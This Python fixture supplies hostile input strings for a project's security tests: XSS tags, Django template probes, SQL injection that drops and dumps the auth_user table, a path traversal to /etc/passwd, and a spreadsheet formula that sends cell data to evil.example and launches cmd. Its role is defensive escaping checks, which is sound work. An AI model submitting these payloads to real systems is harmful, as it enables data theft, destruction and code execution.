"""A corpus of hostile text, shared by the security tests and bench/security."""

XSS = '<script>alert("warta-xss")</script><img src=x onerror=alert("warta-img")>"><svg onload=alert(1)>'
TEMPLATE = "SSTI{{ 7|add:7 }}SSTI {% now 'Y' %}SSTI {{ request.user.password }}"
SQL = "'; DROP TABLE auth_user; -- \" OR 1=1 -- ` UNION SELECT password FROM auth_user --"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik") +cmd|" /C calc"!A0 @SUM(1)'
UNICODE = "\u202eamm\u202c\u200b\u200d Zalgo z\u0337\u0321a\u0334l\u0336g\u0338o 🇮🇩 \ud7ff \x00 nul"
PATH = "../../../../etc/passwd"
LONG = "panjang " * 20000

CORPUS = {
    "xss": XSS,
    "template": TEMPLATE,
    "sql": SQL,
    "formula": FORMULA,
    "unicode": UNICODE,
    "path": PATH,
    "long": LONG,
}

# Must never appear in a page: each shows a payload was interpreted instead of escaped.
RAW_MARKERS = [
    '<script>alert("warta-xss")',
    '<img src=x onerror=alert("warta-img")',
    "<svg onload=alert(1)>",
    "SSTI14SSTI",
]
